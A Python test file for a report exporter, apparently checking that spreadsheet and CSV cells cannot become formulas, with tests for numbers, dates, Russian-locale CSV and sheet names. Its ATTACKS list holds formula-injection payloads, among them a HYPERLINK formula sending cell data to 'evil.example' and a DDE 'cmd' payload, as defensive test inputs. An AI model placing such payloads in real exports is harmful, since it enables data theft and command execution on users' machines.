"""What leaves as a file: nothing in it is a formula, numbers are numbers."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, date, datetime
from enum import IntEnum, StrEnum

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from otklik.reports.tables import LONGEST, Table, safe_cell, workbook

LIVE = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "﹢", "﹣", "−", "|", "%"]
ATTACKS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff＝1+1",
    "\x00=1+1",
    "\xa0@A1",
    "|calc",
]


def sheet_cells(content: bytes) -> list[list[tuple[object, str]]]:
    book = load_workbook(io.BytesIO(content))
    return [[(cell.value, cell.data_type) for cell in row] for row in book.worksheets[0].rows]


def csv_rows(content: bytes, delimiter: str = ",") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_live(text: str) -> bool:
    seen = [c for c in text if not c.isspace() and unicodedata.category(c) not in {"Cc", "Cf"}]
    return text[:1] in set("\t\r\n") or bool(
        seen and unicodedata.normalize("NFKC", seen[0])[:1] in set("=+-@|%\u2212")
    )


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_that_looks_like_a_formula_becomes_a_text(text: str) -> None:
    assert str(safe_cell(text)).startswith("'")
    table = Table("t", (text,), ((text,),))
    assert {kind for row in sheet_cells(table.xlsx()) for _, kind in row} == {"s"}
    for row in csv_rows(table.csv()):
        assert row[0].startswith("'")


@given(st.text(max_size=60))
def test_no_text_of_anybody_is_a_formula(text: str) -> None:
    table = Table("t", ("a",), ((text,),))
    _, [(_value, kind)] = sheet_cells(table.xlsx())
    assert kind in {"s", "inlineStr"}
    assert not is_live(csv_rows(table.csv())[1][0])


@given(st.sampled_from(LIVE), st.text(max_size=20))
def test_no_beginning_gets_through(start: str, rest: str) -> None:
    assert str(safe_cell(start + rest)).startswith("'")


@given(st.one_of(st.integers(-(2**53), 2**53), st.floats(-1e300, 1e300)))
def test_numbers_stay_numbers(number: float) -> None:
    assert safe_cell(number) == number
    _, [(value, kind)] = sheet_cells(Table("t", ("a",), ((number,),)).xlsx())
    assert kind == "n"
    assert value == pytest.approx(number)


def test_times_days_and_words_of_ours_go_out_as_they_are() -> None:
    class Word(StrEnum):
        ONE = "one"

    class Rank(IntEnum):
        HIGH = 2

    at = datetime(2026, 11, 22, 10, 30, tzinfo=UTC)
    assert safe_cell(at) == datetime(2026, 11, 22, 10, 30)  # noqa: DTZ001
    assert safe_cell(date(2026, 11, 22)) == date(2026, 11, 22)
    assert safe_cell(Word.ONE) == "one"
    assert safe_cell(Rank.HIGH) == 2
    assert safe_cell(float("nan")) is None
    assert safe_cell(None) is None
    assert Table("t", ("a",), ((at,),)).xlsx()


def test_a_russian_spreadsheet_gets_semicolons_and_commas() -> None:
    table = Table("t", ("тема", "доля"), (("доставка; курьер", 0.25), ("-", -3)))
    assert csv_rows(table.csv("ru"), ";") == [
        ["тема", "доля"],
        ["доставка; курьер", "0,25"],
        ["'-", "-3"],
    ]
    assert table.csv("ru").startswith(b"\xef\xbb\xbf")


def test_a_text_longer_than_a_cell_is_cut_and_lone_halves_are_replaced() -> None:
    content = Table("t", ("a", "b"), (("я" * 50_000, "\ud800x"),)).xlsx()
    _, [(text, _), (half, _)] = sheet_cells(content)
    assert len(str(text)) < LONGEST
    assert half == "?x"


def test_sheets_have_names_a_spreadsheet_accepts() -> None:
    titles = ("a/b:[c]*?", "A b c", "")
    content = workbook([Table(title, ("x",), ()) for title in titles])
    assert load_workbook(io.BytesIO(content)).sheetnames == ["a b c", "A b c 2", "Sheet"]
